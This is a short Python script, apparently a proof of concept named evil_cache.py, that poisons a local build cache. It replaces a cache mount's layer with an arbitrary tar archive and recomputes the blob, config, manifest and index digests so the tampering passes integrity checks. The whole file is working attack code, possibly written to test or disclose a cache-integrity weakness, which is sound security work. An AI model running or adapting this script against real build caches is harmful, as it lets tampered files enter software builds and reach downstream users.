"""Puts another archive in the place of a cache mount's in a local cache, with all digests made right again.

evil_cache.py LAYOUT TAR

LAYOUT is what --cache-to type=local,dest=… --cache-mounts wrote, with one cache mount; TAR is not compressed.
"""

import hashlib
import json
import sys

layout, archive = sys.argv[1:3]


def place(digest):
    return f"{layout}/blobs/{digest.replace(':', '/')}"


def read(digest):
    with open(place(digest), "rb") as file:
        return json.load(file)


def write(data):
    digest = "sha256:" + hashlib.sha256(data).hexdigest()
    with open(place(digest), "wb") as file:
        file.write(data)
    return {"digest": digest, "size": len(data)}


def write_json(document):
    return write(json.dumps(document, sort_keys=True, separators=(",", ":")).encode())


with open(f"{layout}/index.json", encoding="utf-8") as file:
    index = json.load(file)
manifest = read(index["manifests"][0]["digest"])
records = read(manifest["config"]["digest"])
number = records["mounts"][0]["layer"]
with open(archive, "rb") as file:
    evil = write(file.read())
manifest["layers"][number] = {"mediaType": "application/vnd.oci.image.layer.v1.tar", **evil}
records["layers"][number] = evil["digest"]
manifest["config"].update(write_json(records))
index["manifests"][0].update(write_json(manifest))
with open(f"{layout}/index.json", "w", encoding="utf-8") as file:
    json.dump(index, file)
